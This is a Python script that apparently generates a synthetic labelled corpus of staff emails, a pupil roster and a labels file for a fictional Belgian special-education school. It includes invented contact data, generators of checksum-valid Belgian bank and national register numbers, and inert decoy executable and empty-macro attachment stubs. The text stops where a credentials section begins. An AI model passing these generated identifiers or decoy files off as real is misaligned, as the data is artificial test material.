#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""batch23 - Sint-Pieterscollege campus De Linde (BuSO OV3/OV4, type 9 + basisaanbod), Kessel-Lo.

Builds 150 labelled outgoing staff mails (.eml, CRLF), labels.yaml and roster.csv.
Standard library only, deterministic.  Run:  python3 make.py
"""
import io, os, re, json, random, hashlib, zipfile, datetime as dt
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.mime.base import MIMEBase
from email.mime.message import MIMEMessage
from email.message import Message
from email.header import Header
from email.utils import formataddr, format_datetime
from email import charset as cs_mod, encoders, policy
from email.generator import BytesGenerator

HERE = os.path.dirname(os.path.abspath(__file__))
POL = policy.compat32.clone(linesep='\r\n')

# ----------------------------------------------------------------------------------------------
# staff
ST = {
    'dir':      ('Griet Vanparys', 'griet.vanparys@sintpieterscollege.be'),
    'zorg':     ('Koen Moens', 'koen.moens@sintpieterscollege.be'),
    'secr':     ('Nadia Bouzid', 'nadia.bouzid@sintpieterscollege.be'),
    'secretariaat': ('Secretariaat campus De Linde', 'secretariaat@sintpieterscollege.be'),
    'directie': ('Directie campus De Linde', 'directie@sintpieterscollege.be'),
    'info':     ('Sint-Pieterscollege De Linde', 'info@sintpieterscollege.be'),
    'privacy':  ('Aanspreekpunt informatieveiligheid', 'privacy@lksd.ksleuven.be'),
    'clb':      ('Evi Claes', 'evi.claes@clb-leuven.be'),
    'logo':     ('Sarah De Wit', 'sdw@spc.ksleuven.be'),
    'kine':     ('Pieter Janssens', 'pieter.janssens@sintpieterscollege.be'),
    'ergo':     ('Lotte Verhaegen', 'lotte.verhaegen@sintpieterscollege.be'),
    'ortho':    ('Dries Wouters', 'dries.wouters@sintpieterscollege.be'),
    'verpl':    ('Hilde Maes', 'hilde.maes@sintpieterscollege.be'),
    'jobcoach': ('Tom Vermeulen', 'tom.vermeulen@sintpieterscollege.be'),
    'bus':      ('Marc Lemmens', 'marc.lemmens@sintpieterscollege.be'),
    'martine':  ('Martine Dierickx', 'martine.dierickx@sintpieterscollege.be'),
    'ict':      ('Kristof Aerts', 'kaer@spc.ksleuven.be'),
    'an':       ('An Devos', 'an.devos@sintpieterscollege.be'),
    'yves':     ('Yves Smets', 'yves.smets@sintpieterscollege.be'),
    'fatima':   ('Fatima Amrani', 'fatima.amrani@sintpieterscollege.be'),
    'bart':     ('Bart Goossens', 'bgo@spc.ksleuven.be'),
    'ine':      ('Ine Coppens', 'ine.coppens@sintpieterscollege.be'),
    'sofie':    ('Sofie Vanhove', 'sofie.vanhove@sintpieterscollege.be'),
    'lien':     ('Lien Heremans', 'lien.heremans@sintpieterscollege.be'),
    'hanne':    ('Hanne Jacobs', 'hanne.jacobs@sintpieterscollege.be'),
    'mehmet':   ('Mehmet Yildiz', 'mehmet.yildiz@sintpieterscollege.be'),
    'joke':     ('Joke Van Damme', 'joke.vandamme@sintpieterscollege.be'),
    'wim':      ('Wim Geerts', 'wim.geerts@sintpieterscollege.be'),
    'ilse':     ('Ilse Dewulf', 'ilse.dewulf@sintpieterscollege.be'),
    'jelle':    ('Jelle Stroobants', 'jelle.stroobants@sintpieterscollege.be'),
    'gert':     ('Gert Van Hecke', 'gert.vanhecke@sintpieterscollege.be'),
    'eline':    ('Eline Michiels', 'elmi@spc.ksleuven.be'),
    'ruth':     ('Ruth Daenen', 'ruth.daenen@sintpieterscollege.be'),
    'boekh':    ('Veerle Hendrickx', 'veerle.hendrickx@sintpieterscollege.be'),
    'jan':      ('Jan Verbist', 'jan.verbist@sintpieterscollege.be'),
    'kaat':     ('Kaat Moons', 'kaat.moons@sintpieterscollege.be'),
    'bram':     ('Bram Cuyvers', 'bram.cuyvers@sintpieterscollege.be'),
    'nele':     ('Nele Vanbrabant', 'nele.vanbrabant@sintpieterscollege.be'),
    'lksd_ict': ('Servicedesk ICT LKSD', 'servicedesk@lksd.ksleuven.be'),
}
PRIV = {  # private mailboxes of staff members
    'sofie': ('Sofie Vanhove', 'sofie.vanhove78@gmail.com'),
    'bart': ('Bart Goossens', 'bartgoossens.hout@hotmail.com'),
    'bus': ('Marc Lemmens', 'marc.lemmens65@gmail.com'),
    'jobcoach': ('Tom Vermeulen', 'tom.vermeulen.coach@outlook.com'),
    'ilse': ('Ilse Dewulf', 'ilse.dewulf@telenet.be'),
    'ruth': ('Ruth', 'ruthdaenen@hotmail.com'),
    'kine': ('Pieter Janssens', 'pjanssens.kine@gmail.com'),
}
EXT = {
    'busco':  ('Planning Autocars Van Roey', 'planning@autocars-vanroey.be'),
    'busco_k': ('Kathleen Van Roey', 'kathleen@autocars-vanroey.be'),
    'spil':   ('Tweedekansenwinkel De Spil', 'info@despil-leuven.be'),
    'korenaar': ('Bakkerij Het Korenaar', 'info@hetkorenaar.be'),
    'groen':  ('Groendienst Stad Leuven', 'groendienst@leuven.be'),
    'orbis':  ('Jan Mertens - Orbis Foods', 'stages@orbisfoods.be'),
    'termeren': ('Onthaal WZC Ter Meren', 'onthaal@termeren.be'),
    'garage': ('Garage Vandersmissen', 'info@garagevandersmissen.be'),
    'ocmw':   ('OCMW Leuven - dienst schoolkosten', 'ocmw.schoolkosten@leuven.be'),
    'upc':    ('dr. Leen Verlinden', 'leen.verlinden@upc-kortenberg.be'),
    'clb2':   ('Onthaal CLB Leuven', 'onthaal@clb-leuven.be'),
}

SCHOOL_ADR = "Sint-Pieterscollege – campus De Linde\nBuitengewoon secundair onderwijs OV3 – OV4\nLindeweg 14, 3010 Kessel-Lo"
SCHOOL_TEL = "tel. 016 35 72 40"


def sig(key, role='', tel=False, gsm=None, adr=True):
    name = ST[key][0]
    lines = ["", name]
    if role:
        lines.append(role)
    if adr:
        lines.append(SCHOOL_ADR)
    if tel:
        lines.append(SCHOOL_TEL)
    if gsm:
        lines.append("gsm " + gsm)
    return "\n".join(lines)


# ----------------------------------------------------------------------------------------------
# roster
KEY_PUPILS = [
    # key, first, last, class, parent1, parent2
    ('lars', 'Lars', 'Peeters', '3B', 'sabine.vos@telenet.be', 'dirk.peeters@gmail.com'),
    ('sien', 'Sien', 'Peeters', '5D', 'an.peeters.thuis@gmail.com', ''),
    ('yasmina4', 'Yasmina', 'Benali', '4A', 'h.benali@hotmail.com', ''),
    ('yasmina1', 'Yasmina', 'El Idrissi', '1B', 'fatima.elidrissi@gmail.com', 'm.elidrissi@outlook.com'),
    ('robbe', 'Robbe', 'Verstraeten', '2C', 'ellen.verstraeten@telenet.be', ''),
    ('kiano', 'Kiano', 'Mbuyi', '2C', 'grace.mbuyi@gmail.com', 'patrick.mbuyi@gmail.com'),
    ('ilias', 'Ilias', 'Ouali', '1D', 'samira.ouali@hotmail.com', ''),
    ('jana', 'Jana', 'Vandeweyer', '1D', 'kris.vandeweyer@telenet.be', 'lies.cuypers84@gmail.com'),
    ('mila', 'Mila', 'Dewaele', '2B', 'jeroen.dewaele@proximus.be', 'stefanie.lenaerts@gmail.com'),
    ('finn', 'Finn', 'Hermans', '6A', 'bart.hermans@telenet.be', 'stefanie.devries@gmail.com'),
    ('bilal', 'Bilal', 'El Amrani', '6C', 'rachid.elamrani@gmail.com', 'naima.elamrani@hotmail.com'),
    ('nour', 'Nour', 'El Amrani', '2D', 'youssef.el.amrani@skynet.be', ''),
    ('maxime', 'Maxime', 'Dubois', '3C', 'isabelle.dubois@outlook.com', ''),
    ('arne', 'Arne', 'Wuyts', '3C', 'marleen.wuyts@telenet.be', ''),
    ('emre', 'Emre', 'Kaya', '4C', 'ayse.kaya@hotmail.com', ''),
    ('elif', 'Elif', 'Kaya', '1A', 'kaya.huseyin@gmail.com', ''),
    ('noahL', 'Noah', 'Lambrechts', '5C', 'tine.lambrechts@gmail.com', ''),
    ('noahV', 'Noah', 'Vermeiren', '3A', 'els.vermeiren@telenet.be', ''),
    ('sami', 'Sami', 'Haddad', '5B', 'l.haddad@gmail.com', ''),
    ('kobe', 'Kobe', 'Leemans', '5B', 'nathalie.leemans@skynet.be', ''),
    ('olivia', 'Olivia', 'Brown', '4D', 'sarah.brown.leuven@gmail.com', ''),
    ('olivier', 'Olivier', 'Lambert', '3C', 'celine.lambert@outlook.com', ''),
    ('rayan', 'Rayan', 'Bakkali', '1C', 'karima.bakkali@hotmail.com', ''),
    ('lucas', 'Lucas', 'Nijs', '1C', 'hannelore.nijs@telenet.be', ''),
    ('milan', 'Milan', 'Verbeke', '3C', 'evelien.verbeke@gmail.com', ''),
    ('noor', 'Noor', 'Van den Broeck', '4C', 'tom.vandenbroeck@telenet.be', 'jeugdhulp.consulent.vdb@gmail.com'),
    ('wout', 'Wout', 'Claessens', '5A', 'griet.claessens@telenet.be', 'wim.claessens@skynet.be'),
    ('amira', 'Amira', 'Chaouki', '1A', 'chaouki.latifa@hotmail.com', ''),
    ('dawid', 'Dawid', 'Kowalski', '2A', 'agnieszka.kowalska@gmail.com', ''),
    ('zofia', 'Zofia', 'Nowak', '5D', 'marta.nowak.leuven@gmail.com', ''),
    ('hamza', 'Hamza', 'Al-Sayed', '3A', 'alsayed.family@gmail.com', ''),
    ('lena', 'Lena', 'Geukens', '6B', 'patricia.geukens@telenet.be', ''),
    ('tibo', 'Tibo', 'Vanhoof', '4A', 'kristel.vanhoof@gmail.com', 'johan.vanhoof@telenet.be'),
    ('jarne', 'Jarne', 'Mertens', '6D', 'mertens.hilde@skynet.be', ''),
    ('senne', 'Senne', 'Bogaerts', '2B', 'liesbeth.bogaerts@gmail.com', 'koen.bogaerts@telenet.be'),
    ('ines', 'Inès', 'Mukendi', '3B', 'mukendi.josephine@gmail.com', ''),
    ('jules', 'Jules', 'Thys', '1B', 'sarah.thys@telenet.be', 'pieter.thys@gmail.com'),
    ('femke', 'Femke', 'Van Loo', '5C', 'vanloo.ann@telenet.be', ''),
    ('aaron', 'Aaron', 'Vos', '2D', 'jessica.vos1985@hotmail.com', ''),
    ('lore', 'Lore', 'Heylen', '4C', 'heylen.bart@proximus.be', 'nele.heylen@gmail.com'),
    ('mohamed', 'Mohamed', 'Ait Lahcen', '5A', 'aitlahcen.h@gmail.com', ''),
    ('ruben', 'Ruben', 'Stevens', '3C', 'stevens.veerle@telenet.be', ''),
    ('luna', 'Luna', 'Goris', '1D', 'goris.kim@hotmail.com', ''),
    ('thomas', 'Thomas', 'Cools', '6A', 'cools.marijke@telenet.be', ''),
    ('zakaria', 'Zakaria', 'Boukhari', '4D', 'boukhari.fatiha@gmail.com', ''),
    ('mats', 'Mats', 'Daems', '2A', 'daems.gert@gmail.com', 'an.daems.devos@gmail.com'),
    ('jade', 'Jade', 'Willems', '3A', 'kelly.willems@hotmail.com', ''),
    ('liam', 'Liam', 'Murphy', '1C', 'ciara.murphy@gmail.com', ''),
    ('chloe', 'Chloé', 'Martin', '2C', 'martin.aurelie@outlook.com', ''),
    ('stan', 'Stan', 'Peetermans', '6B', 'peetermans.luc@telenet.be', ''),
    ('ayoub', 'Ayoub', 'Zeroual', '5B', 'zeroual.mohammed@hotmail.com', ''),
    ('seppe', 'Seppe', 'Wijns', '1B', 'wijns.katleen@telenet.be', ''),
    ('nina', 'Nina', 'Lemaire', '4B', 'lemaire.sophie@outlook.com', ''),
    ('brent', 'Brent', 'Vangeel', '6D', 'vangeel.dirk@skynet.be', ''),
    ('sara', 'Sara', 'Tahiri', '2A', 'tahiri.nadia@gmail.com', ''),
    ('vic', 'Vic', 'Huybrechts', '3D', 'huybrechts.ellen@gmail.com', ''),
    ('esra', 'Esra', 'Demir', '5B', 'demir.zeynep@hotmail.com', ''),
    ('warre', 'Warre', 'Bosmans', '1A', 'bosmans.tine@telenet.be', ''),
    ('tuur', 'Arthur', 'Schepers', '4A', 'schepers.ingrid@telenet.be', ''),
    ('kato', 'Kato', 'Vandenberghe', '6C', 'ilse.vandenberghe@gmail.com', ''),
    ('joppe', 'Joppe', 'Francken', '4D', 'francken.evi@telenet.be', ''),
    ('amber', 'Amber', 'Deprez', '5A', 'deprez.sandra@hotmail.com', ''),
    ('youssef', 'Youssef', 'Bennani', '6B', 'bennani.khadija@gmail.com', ''),
    ('wiktor', 'Wiktor', 'Zielinski', '3B', 'zielinska.ewa@gmail.com', ''),
    ('gilles', 'Gilles', 'Vervoort', '2D', 'vervoort.nathalie@telenet.be', ''),
    ('lisa', 'Lisa', 'Michiels', '4C', 'michiels.tom@gmail.com', ''),
    ('daan', 'Daan', 'Verhoeven', '5C', 'verhoeven.liesbet@telenet.be', ''),
    ('hatice', 'Hatice', 'Yilmaz', '6D', 'yilmaz.ali@hotmail.com', ''),
    ('elias', 'Elias', 'Maes', '1C', 'maes.kaat@telenet.be', ''),
    ('jente', 'Jente', 'Lauwers', '6A', 'lauwers.griet@skynet.be', ''),
    ('ferre', 'Ferre', 'Van Hove', '3A', 'vanhove.els@gmail.com', ''),
    ('ahmed', 'Ahmed', 'Ouled Ali', '6C', 'ouledali.m@gmail.com', ''),
    ('victor', 'Victor', 'Desmet', '2B', 'desmet.karolien@telenet.be', ''),
    ('jasper', 'Jasper', 'Geens', '5D', 'geens.marc@proximus.be', ''),
]

FIRST = ['Arthur', 'Louis', 'Jules', 'Lucas', 'Noah', 'Adam', 'Victor', 'Finn', 'Mathis', 'Leon', 'Ferre', 'Vince',
         'Lou', 'Emma', 'Olivia', 'Marie', 'Louise', 'Ella', 'Mila', 'Noor', 'Lina', 'Fleur', 'Lotte', 'Hanne',
         'Jonas', 'Wout', 'Tuur', 'Bram', 'Robbe', 'Senne', 'Lowie', 'Kasper', 'Niels', 'Jens', 'Tom', 'Dries',
         'Ilias', 'Yassin', 'Adam', 'Imran', 'Rayan', 'Anas', 'Soufiane', 'Hamza', 'Amine', 'Mehdi', 'Salma',
         'Hiba', 'Inaya', 'Aya', 'Malak', 'Kenza', 'Emir', 'Yusuf', 'Eymen', 'Elif', 'Zeynep', 'Defne', 'Kacper',
         'Jakub', 'Szymon', 'Oliwia', 'Maja', 'Zuzanna', 'Glody', 'Merveille', 'Precious', 'Divine', 'Grâce',
         'Ruben', 'Sander', 'Jelle', 'Tibo', 'Kobe', 'Milan', 'Seppe', 'Brent', 'Axel', 'Nathan', 'Dylan',
         'Kyano', 'Jesse', 'Luka', 'Sara', 'Julie', 'Laura', 'Jolien', 'Amélie', 'Febe', 'Nore', 'Roos',
         'Ine', 'Yana', 'Kiara', 'Shanice', 'Chelsey', 'Xander', 'Stijn', 'Lander', 'Hugo', 'Mauro', 'Matteo']
LAST = ['Janssens', 'Maes', 'Jacobs', 'Mertens', 'Willems', 'Claes', 'Goossens', 'Wouters', 'De Smet', 'Dubois',
        'Lambert', 'Dupont', 'Hermans', 'Vandenberghe', 'Verhaegen', 'Van Damme', 'Segers', 'Verbruggen',
        'Lenaerts', 'Vermeersch', 'Michiels', 'Aerts', 'Smets', 'Cuypers', 'Bosmans', 'Wuyts', 'Geerts',
        'Peetermans', 'Vandevelde', 'Timmermans', 'Schoofs', 'Moons', 'Swinnen', 'Thijs', 'Vanderstraeten',
        'Van Gorp', 'Nys', 'Celis', 'Stas', 'Vranckx', 'Boeckx', 'Loos', 'Meeus', 'Vanleeuw', 'Raes',
        'El Khattabi', 'Bouzidi', 'Amrani', 'Benali', 'Azzouzi', 'Ouled Haddou', 'Chakir', 'El Ouardi',
        'Yildirim', 'Öztürk', 'Arslan', 'Çelik', 'Şahin', 'Kowalczyk', 'Wiśniewski', 'Lewandowski', 'Mazur',
        'Kabila', 'Ilunga', 'Tshibanda', 'Kasongo', 'Lukusa', 'Mutombo', 'Nkulu', 'Popescu', 'Ionescu',
        'Dimitrov', 'Sahraoui', 'Baert', 'Coenen', 'Daenen', 'Evers', 'Feyaerts', 'Gillis', 'Heremans',
        'Indekeu', 'Jorissen', 'Kerckhofs', 'Luyten', 'Nackaerts', 'Ooms', 'Pauwels', 'Reynders', 'Stroobants',
        'Tielemans', 'Uyttebroeck', 'Vleugels', 'Wyns', 'Zegers', 'Bleys', 'Craps', 'Dewinter', 'Engelen']
PARENT_FIRST = ['An', 'Els', 'Kristel', 'Sofie', 'Veerle', 'Katrien', 'Nathalie', 'Sandra', 'Inge', 'Karen',
                'Tine', 'Leen', 'Kim', 'Jessica', 'Hanna', 'Sara', 'Fatima', 'Khadija', 'Naima', 'Samira',
                'Ayse', 'Emine', 'Agnieszka', 'Joanna', 'Mireille', 'Chantal', 'Bart', 'Koen', 'Kris', 'Tom',
                'Peter', 'Johan', 'Dirk', 'Geert', 'Stijn', 'Mohamed', 'Hassan', 'Mustafa', 'Piotr', 'Jean-Pierre']
DOMAINS = ['telenet.be', 'gmail.com', 'hotmail.com', 'skynet.be', 'proximus.be', 'outlook.com', 'gmail.com',
           'telenet.be', 'hotmail.com']
CLASSES = [f"{y}{c}" for y in range(1, 7) for c in "ABCD"]


def slugname(s):
    tr = str.maketrans({'é': 'e', 'è': 'e', 'ë': 'e', 'ï': 'i', 'ö': 'o', 'ü': 'u', 'ç': 'c', 'ş': 's', 'ś': 's',
                        'ł': 'l', 'â': 'a', 'ó': 'o', 'ń': 'n', 'ż': 'z', 'ć': 'c', 'ę': 'e', 'ą': 'a', "'": '',
                        ' ': '', '-': ''})
    return s.lower().translate(tr)


def build_roster():
    rnd = random.Random(2323)
    pupils = []
    used = set()
    for key, f, l, k, p1, p2 in KEY_PUPILS:
        pupils.append(dict(key=key, first=f, last=l, klas=k, p1=p1, p2=p2))
        used.add((f, l))
    per_class = {c: sum(1 for p in pupils if p['klas'] == c) for c in CLASSES}
    for i, c in enumerate(CLASSES):
        target = 12 if i % 2 == 0 else 13
        while per_class[c] < target:
            f, l = rnd.choice(FIRST), rnd.choice(LAST)
            if (f, l) in used or any(p['first'] == f and p['klas'] == c for p in pupils):
                continue
            used.add((f, l))
            pf = rnd.choice(PARENT_FIRST)
            dom = rnd.choice(DOMAINS)
            style = rnd.randint(0, 4)
            if style == 0:
                p1 = f"{slugname(pf)}.{slugname(l)}@{dom}"
            elif style == 1:
                p1 = f"{slugname(l)}.{slugname(pf)}@{dom}"
            elif style == 2:
                p1 = f"{slugname(pf)[0]}.{slugname(l)}@{dom}"
            elif style == 3:
                p1 = f"{slugname(pf)}{slugname(l)}{rnd.randint(70, 99)}@{dom}"
            else:
                p1 = f"fam.{slugname(l)}@{dom}"
            p2 = ''
            if rnd.random() < 0.45:
                pf2 = rnd.choice(PARENT_FIRST)
                p2 = f"{slugname(pf2)}.{slugname(l)}@{rnd.choice(DOMAINS)}"
                if p2 == p1:
                    p2 = ''
            pupils.append(dict(key=None, first=f, last=l, klas=c, p1=p1, p2=p2))
            per_class[c] += 1
    pupils.sort(key=lambda p: (p['klas'], p['last'], p['first']))
    for n, p in enumerate(pupils, 1):
        p['id'] = f"P{n:04d}"
        p['mail'] = f"{slugname(p['first'])}.{slugname(p['last'])}@leerling.sintpieterscollege.be"
    return pupils


ROSTER = build_roster()
PUP = {p['key']: p for p in ROSTER if p['key']}


def pid(k):
    return PUP[k]['id']


def par(k, n=1):
    """(display name, address) of parent n of pupil key k"""
    p = PUP[k]
    return p['p1'] if n == 1 else p['p2']


def write_roster():
    lines = ["Intern nummer;Voornaam;Naam;Klas;E-mailadres leerling;E-mailadres ouder 1;E-mailadres ouder 2"]
    for p in ROSTER:
        lines.append(";".join([p['id'], p['first'], p['last'], p['klas'], p['mail'], p['p1'], p['p2']]))
    with open(os.path.join(HERE, 'roster.csv'), 'w', encoding='utf-8-sig', newline='') as fh:
        fh.write("\r\n".join(lines) + "\r\n")


# ----------------------------------------------------------------------------------------------
# helpers for checksummed numbers (invented persons)
def iban_be(bank3, acct7):
    base = int(f"{bank3:03d}{acct7:07d}")
    chk = base % 97 or 97
    bban = f"{bank3:03d}{acct7:07d}{chk:02d}"
    num = int(bban + "111400")  # B=11 E=14 00
    cd = 98 - (num % 97)
    s = f"BE{cd:02d}{bban}"
    return " ".join(s[i:i + 4] for i in range(0, len(s), 4))


def rrn(yy, mm, dd, seq, after2000=True):
    base = int(("2" if after2000 else "") + f"{yy:02d}{mm:02d}{dd:02d}{seq:03d}")
    cc = 97 - (base % 97)
    return f"{yy:02d}.{mm:02d}.{dd:02d}-{seq:03d}.{cc:02d}"


# ----------------------------------------------------------------------------------------------
# text helpers
def quote(text, header):
    q = "\n".join(("> " + l) if l.strip() else ">" for l in text.strip("\n").split("\n"))
    return f"\n\n{header}\n{q}\n"


def fwd_inline(frm, date, subject, to, body, style='gmail'):
    if style == 'gmail':
        return (f"\n\n---------- Doorgestuurd bericht ----------\nVan: {frm}\nDate: {date}\n"
                f"Subject: {subject}\nTo: {to}\n\n{body.strip()}\n")
    return (f"\n\n________________________________\nVan: {frm}\nVerzonden: {date}\nAan: {to}\n"
            f"Onderwerp: {subject}\n\n{body.strip()}\n")


def esc(s):
    return s.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')


def html_from_text(text, outlook=True):
    paras = []
    for line in text.split("\n"):
        if line.strip() == "":
            paras.append('<p class="MsoNormal">&nbsp;</p>' if outlook else '<br>')
        else:
            paras.append(f'<p class="MsoNormal">{esc(line)}</p>' if outlook else f'<div>{esc(line)}</div>')
    return paras


def table_html(rows, header=True):
    out = ['<table class="MsoTableGrid" border="1" cellspacing="0" cellpadding="0" '
           'style="border-collapse:collapse;border:none">']
    for r_i, row in enumerate(rows):
        out.append('<tr>')
        for cell in row:
            tag = 'td'
            style = 'border:solid windowtext 1.0pt;padding:0cm 5.4pt 0cm 5.4pt'
            content = esc(cell).replace("\n", "<br>")
            if header and r_i == 0:
                content = f'<b>{content}</b>'
                style += ';background:#D9E2F3'
            out.append(f'<{tag} valign="top" style="{style}"><p class="MsoNormal">{content}</p></{tag}>')
        out.append('</tr>')
    out.append('</table>')
    return "\n".join(out)


def table_text(rows):
    widths = [max(len(r[i]) for r in rows if i < len(r)) for i in range(len(rows[0]))]
    out = []
    for r in rows:
        out.append("  ".join(c.replace("\n", " / ").ljust(min(w, 40)) for c, w in zip(r, widths)).rstrip())
    return "\n".join(out)


def outlook_html(blocks):
    """blocks: list of str (text, converted) or ('table', rows) or ('raw', html)"""
    body = []
    for b in blocks:
        if isinstance(b, tuple) and b[0] == 'table':
            body.append(table_html(b[1]))
        elif isinstance(b, tuple) and b[0] == 'raw':
            body.append(b[1])
        else:
            body.extend(html_from_text(b))
    return ('<html xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word">\n<head>\n'
            '<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
            '<style><!-- p.MsoNormal{margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;} --></style>\n'
            '</head>\n<body lang="NL-BE" link="#0563C1" vlink="#954F72">\n<div class="WordSection1">\n'
            + "\n".join(body) + '\n</div>\n</body>\n</html>\n')


def outlook_text(blocks):
    out = []
    for b in blocks:
        if isinstance(b, tuple) and b[0] == 'table':
            out.append(table_text(b[1]))
        elif isinstance(b, tuple) and b[0] == 'raw':
            out.append(re.sub(r'<[^>]+>', '', b[1]))
        else:
            out.append(b)
    return "\n".join(out)


# ----------------------------------------------------------------------------------------------
# attachments
FIXED_ZIP_TIME = (2024, 9, 1, 8, 0, 0)


def zip_bytes(files):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, FIXED_ZIP_TIME)
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data)
    return bio.getvalue()


def fake_exe(label):
    h = hashlib.sha256(label.encode()).digest()
    return (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
            + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
            + b"\x00" * 7 + b"PE\x00\x00" + h * 8)


def office_macro(kind, text):
    main = 'word/document.xml' if kind == 'docm' else 'xl/workbook.xml'
    vba = 'word/vbaProject.bin' if kind == 'docm' else 'xl/vbaProject.bin'
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/'
          'package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
          '</Types>')
    return zip_bytes([('[Content_Types].xml', ct), (main, f'<?xml version="1.0"?><doc>{esc(text)}</doc>'),
                      (vba, b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'Attribute VB_Name = "Module1"\nSub AutoOpen()\n'
                       b'End Sub\n')])


# ----------------------------------------------------------------------------------------------
# message building
MAILS = []


def add(slug, frm, to, subject, body, **kw):
    kw.update(slug=slug, frm=frm, to=to, subject=subject, body=body)
    MAILS.append(kw)


def addr_of(a):
    return a[1] if isinstance(a, tuple) else a


def fmt_addr(a):
    if isinstance(a, tuple):
        return formataddr(a, charset='utf-8')
    return a


def text_part(text, subtype='plain', cte='qp', charset='utf-8'):
    text = text.replace('\r\n', '\n')
    if not text.endswith('\n'):
        text += '\n'
    if cte in ('8bit', '7bit'):
        m = Message()
        m['Content-Type'] = f'text/{subtype}; charset="{charset}"'
        m['Content-Transfer-Encoding'] = cte
        data = text.encode(charset)
        if cte == '7bit':
            data.decode('ascii')
        m.set_payload(data.decode('ascii', 'surrogateescape'))
        return m
    c = cs_mod.Charset(charset)
    c.body_encoding = cs_mod.QP if cte == 'qp' else cs_mod.BASE64
    p = MIMEText(text, subtype, c)
    del p['MIME-Version']
    return p


def attachment_part(name, data, ctype):
    maintype, subtype = ctype.split('/')
    if isinstance(data, str):
        c = cs_mod.Charset('utf-8')
        c.body_encoding = cs_mod.BASE64
        p = MIMEText(data.replace('\r\n', '\n'), subtype, c)
    else:
        p = MIMEBase(maintype, subtype, name=name)
        p.set_payload(data)
        encoders.encode_base64(p)
    p.add_header('Content-Disposition', 'attachment', filename=name)
    del p['MIME-Version']
    return p


BASE_DATE = dt.datetime(2024, 9, 3, 7, 50)
HOLIDAYS = [(dt.date(2024, 10, 28), dt.date(2024, 11, 3)), (dt.date(2024, 11, 11), dt.date(2024, 11, 11)),
            (dt.date(2024, 12, 21), dt.date(2025, 1, 5)), (dt.date(2025, 3, 1), dt.date(2025, 3, 9)),
            (dt.date(2025, 4, 5), dt.date(2025, 4, 21)), (dt.date(2025, 5, 1), dt.date(2025, 5, 2)),
            (dt.date(2025, 5, 29), dt.date(2025, 5, 30)), (dt.date(2025, 6, 9), dt.date(2025, 6, 9))]


def mail_date(i, m):
    if m.get('date'):
        d = m['date']
    else:
        d = BASE_DATE + dt.timedelta(days=int(i * 1.85), minutes=(i * 47) % 640)
        while d.weekday() >= 5 or any(a <= d.date() <= b for a, b in HOLIDAYS):
            d += dt.timedelta(days=1)
    off = 2 if (d.month >= 4 and d.month <= 9) or (d.month == 10 and d.day < 27) else 1
    return d.replace(tzinfo=dt.timezone(dt.timedelta(hours=off)))


def build_message(i, m, inner=False):
    kind = m.get('kind', 'plain')
    cte = m.get('cte', 'qp')
    charset = m.get('charset', 'utf-8')
    uid = f"{i:03d}"
    if kind == 'plain':
        body = text_part(m['body'], 'plain', cte, charset)
    elif kind == 'html':
        html = m.get('html') or outlook_html([m['body']])
        body = text_part(html, 'html', cte, charset)
    elif kind == 'alt':
        html = m.get('html') or outlook_html([m['body']])
        body = MIMEMultipart('alternative', boundary=f"_000_alt{uid}_SPCDeLinde_")
        del body['MIME-Version']
        body.attach(text_part(m['body'], 'plain', cte, charset))
        body.attach(text_part(html, 'html', 'qp' if cte != 'base64' else 'base64', charset))
    else:
        raise ValueError(kind)
    atts = m.get('attach', [])
    if atts or m.get('inner'):
        outer = MIMEMultipart('mixed', boundary=f"----=_NextPart_{uid}_mixed")
        outer.attach(body)
        if m.get('inner'):
            inn = dict(m['inner'])
            inn.setdefault('date', (mail_date(i, m) - dt.timedelta(hours=20)).replace(tzinfo=None))
            inner_msg = build_message(i * 1000 + 1, inn, inner=True)
            part = MIMEMessage(inner_msg)
            del part['MIME-Version']
            part.add_header('Content-Disposition', 'attachment',
                            filename=m['inner'].get('fname', 'doorgestuurd bericht.eml'))
            outer.attach(part)
        for name, data, ctype in atts:
            outer.attach(attachment_part(name, data, ctype))
    else:
        outer = body
    # header order
    saved = [(k, v) for k, v in outer.items()]
    for k in set(k for k, _ in saved):
        del outer[k]
    d = mail_date(i, m)
    outer['Date'] = format_datetime(d)
    outer['From'] = fmt_addr(m['frm'])
    outer['To'] = ", ".join(fmt_addr(a) for a in m['to'])
    if m.get('cc'):
        outer['Cc'] = ", ".join(fmt_addr(a) for a in m['cc'])
    subj = m['subject']
    outer['Subject'] = Header(subj, 'utf-8') if any(ord(ch) > 127 for ch in subj) else subj
    dom = addr_of(m['frm']).split('@')[1]
    outer['Message-ID'] = f"<{d.strftime('%Y%m%d%H%M%S')}.{hashlib.md5((uid + subj).encode()).hexdigest()[:12]}@{dom}>"
    if m.get('irt'):
        outer['In-Reply-To'] = m['irt']
        outer['References'] = m['irt']
    if m.get('xmailer'):
        outer['X-Mailer'] = m['xmailer']
    outer['MIME-Version'] = '1.0'
    for k, v in saved:
        if k.lower() != 'mime-version':
            outer[k] = v
    if 'Content-Transfer-Encoding' not in outer:
        outer['Content-Transfer-Encoding'] = '8bit' if cte == '8bit' else '7bit'
    return outer


def to_bytes(msg):
    bio = io.BytesIO()
    BytesGenerator(bio, mangle_from_=False, policy=POL).flatten(msg)
    data = bio.getvalue()
    data = re.sub(rb'(?<!\r)\n', b'\r\n', data)
    return data


# ==============================================================================================
# A. CREDENTIALS (35)
# ==============================================================================================
JOLIEN = ('Jolien Baert', 'jolien.baert@sintpieterscollege.be')
